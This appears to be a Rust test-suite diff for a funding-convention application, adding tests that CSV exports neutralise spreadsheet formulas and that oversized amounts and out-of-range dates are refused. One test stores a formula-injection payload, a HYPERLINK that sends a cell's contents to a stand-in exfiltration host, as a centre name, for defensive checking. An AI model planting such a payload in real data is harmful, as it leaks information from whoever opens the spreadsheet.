@@ -281,12 +281,13 @@ async fn writes_answer_with_user_errors_and_payments_count_once() {
             .contains("never a number")
     );
 
-    // Signed: the content changes only through an amendment.
+    // Signed: the content changes only through an amendment. (Version 4: the first payment's; its retry wrote
+    // nothing, not even a version.)
     let frozen = app
         .gql(
             Some(&staff),
             "mutation($input: UpdateConventionInput!) { updateConvention(input: $input) { userErrors { field code } } }",
-            json!({ "input": { "id": id, "version": 5, "content": content(&caf, "CPO-2026") } }),
+            json!({ "input": { "id": id, "version": 4, "content": content(&caf, "CPO-2026") } }),
         )
         .await;
     assert_eq!(
@@ -455,4 +456,146 @@ async fn partners_and_other_federations_see_only_their_conventions_and_a_page_co
             .all(|c| !c["reference"].as_str().unwrap().starts_with("PDC-")),
         "{nords}"
     );
+}
+
+/// A centre-manager's name for its centre reaches the CAF's and the staff's spreadsheets: a name a spreadsheet
+/// would run as a formula is written as text there, and the amounts beside it keep their form.
+#[tokio::test]
+async fn no_exported_cell_starts_a_formula() {
+    let app = TestApp::spawn().await;
+    let staff = app.token(Some("nord"), &["federation-staff"]);
+    let caf = named(&partners(&app, &staff).await, "CAF du Nord").to_owned();
+    let funder = token_with(Some("nord"), &["partner"], json!({ "partner": caf }));
+    let get = |token: String, path: &'static str, query: &'static [(&'static str, &'static str)]| {
+        let app = &app;
+        async move {
+            let reply = app
+                .client
+                .get(format!("{}{path}", app.address))
+                .query(query)
+                .bearer_auth(token)
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(reply.status().as_u16(), 200);
+            let text = reply.text().await.unwrap();
+            csv::Reader::from_reader(text.as_bytes())
+                .records()
+                .map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<String>>())
+                .collect::<Vec<_>>()
+        }
+    };
+    let lines = get(funder.clone(), "/export/funding.csv", &[("year", "2015")]).await;
+    let beneficiary = lines[0][4].clone();
+    let centre = crate::support::centres(&app, &staff)
+        .await
+        .into_iter()
+        .find(|(_, name)| *name == beneficiary)
+        .unwrap()
+        .0;
+    let version = app
+        .gql(
+            Some(&staff),
+            "query($id: ID!) { centre(id: $id) { version } }",
+            json!({ "id": centre }),
+        )
+        .await
+        .data()["centre"]["version"]
+        .clone();
+    let formula = "=HYPERLINK(\"http://exfiltration.example/?\"&D3,\"Centre social\")";
+    let renamed = app
+        .gql(
+            Some(&staff),
+            "mutation($input: UpdateCentreInput!) { updateCentre(input: $input) { userErrors { field code } } }",
+            json!({ "input": { "id": centre, "version": version, "name": formula } }),
+        )
+        .await;
+    assert_eq!(user_errors(&renamed.data()["updateCentre"]), [], "{}", renamed.body);
+
+    let lines = get(funder, "/export/funding.csv", &[("year", "2015")]).await;
+    let row = lines.iter().find(|r| r[4].contains("HYPERLINK")).unwrap();
+    assert_eq!(row[4], format!("'{formula}"), "the CAF's export: {row:?}");
+    assert!(
+        row[7].chars().next().unwrap().is_ascii_digit() && row[7].ends_with(".00"),
+        "amounts keep their form: {row:?}"
+    );
+    for cell in lines.iter().flatten() {
+        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
+    }
+    let values = get(staff, "/export/indicators.csv", &[("year", "2024")]).await;
+    let row = values.iter().find(|r| r[1].contains("HYPERLINK")).unwrap();
+    assert_eq!(row[1], format!("'{formula}"), "the staff's export: {row:?}");
+}
+
+/// Two draft lines of the largest `i64` of cents made `fundingTotals(includeUnsigned)` fail on both databases,
+/// and a five-digit year compared as text dropped a convention from the active ones on SQLite: both are refused
+/// at the door, with the field they concern, and nothing is written.
+#[tokio::test]
+async fn amounts_and_dates_are_bounded_at_the_door() {
+    let app = TestApp::spawn().await;
+    let staff = app.token(Some("pas-de-calais"), &["federation-staff"]);
+    let caf = named(&partners(&app, &staff).await, "CAF du Pas-de-Calais").to_owned();
+    let count = || async {
+        app.gql(Some(&staff), "{ conventions { totalCount } }", json!({}))
+            .await
+            .data()["conventions"]["totalCount"]
+            .clone()
+    };
+    let before = count().await;
+    let mut huge = content(&caf, "CPO-HUGE");
+    huge["lines"][0]["committed"] = json!("92233720368547758.07");
+    let mut far = content(&caf, "CPO-FAR");
+    far["endDate"] = json!("+10000-01-01");
+    let mut five_digits = content(&caf, "CPO-FIVE");
+    five_digits["endDate"] = json!("10000-01-01");
+    let mut old = content(&caf, "CPO-OLD");
+    old["startDate"] = json!("1899-12-31");
+    for (bad, what) in [
+        (huge, "92233720368547758.07"),
+        (far, "+10000-01-01"),
+        (five_digits, "10000-01-01"),
+        (old, "1899-12-31"),
+    ] {
+        let reply = app
+            .gql(Some(&staff), CREATE, json!({ "input": { "content": bad } }))
+            .await;
+        assert!(!reply.codes().is_empty(), "{what} accepted: {}", reply.body);
+        assert!(
+            reply.body["errors"][0]["message"].as_str().unwrap().contains(what),
+            "{}",
+            reply.body
+        );
+    }
+    // The largest amount allowed, twice, sums without overflow.
+    let caf_committed = || async {
+        let totals = app
+            .gql(
+                Some(&staff),
+                "{ fundingTotals(groupBy: [FUNDER], filter: { includeUnsigned: true }) { \
+                 funder { ... on Partner { name } } committed } }",
+                json!({}),
+            )
+            .await;
+        assert!(totals.codes().is_empty(), "{}", totals.body);
+        let total = totals.data()["fundingTotals"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|t| t["funder"]["name"] == "CAF du Pas-de-Calais")
+            .unwrap()["committed"]
+            .as_str()
+            .unwrap()
+            .replace('.', "");
+        total.parse::<i64>().unwrap()
+    };
+    let committed_before = caf_committed().await;
+    let mut largest = content(&caf, "CPO-LARGEST");
+    largest["lines"][0]["committed"] = json!("999999999.99");
+    largest["lines"][1]["committed"] = json!("999999999.99");
+    let created = app
+        .gql(Some(&staff), CREATE, json!({ "input": { "content": largest } }))
+        .await;
+    assert_eq!(user_errors(&created.data()["createConvention"]), [], "{}", created.body);
+    assert_eq!(count().await, before.as_u64().unwrap() + 1);
+    assert_eq!(caf_committed().await - committed_before, 199_999_999_998);
 }
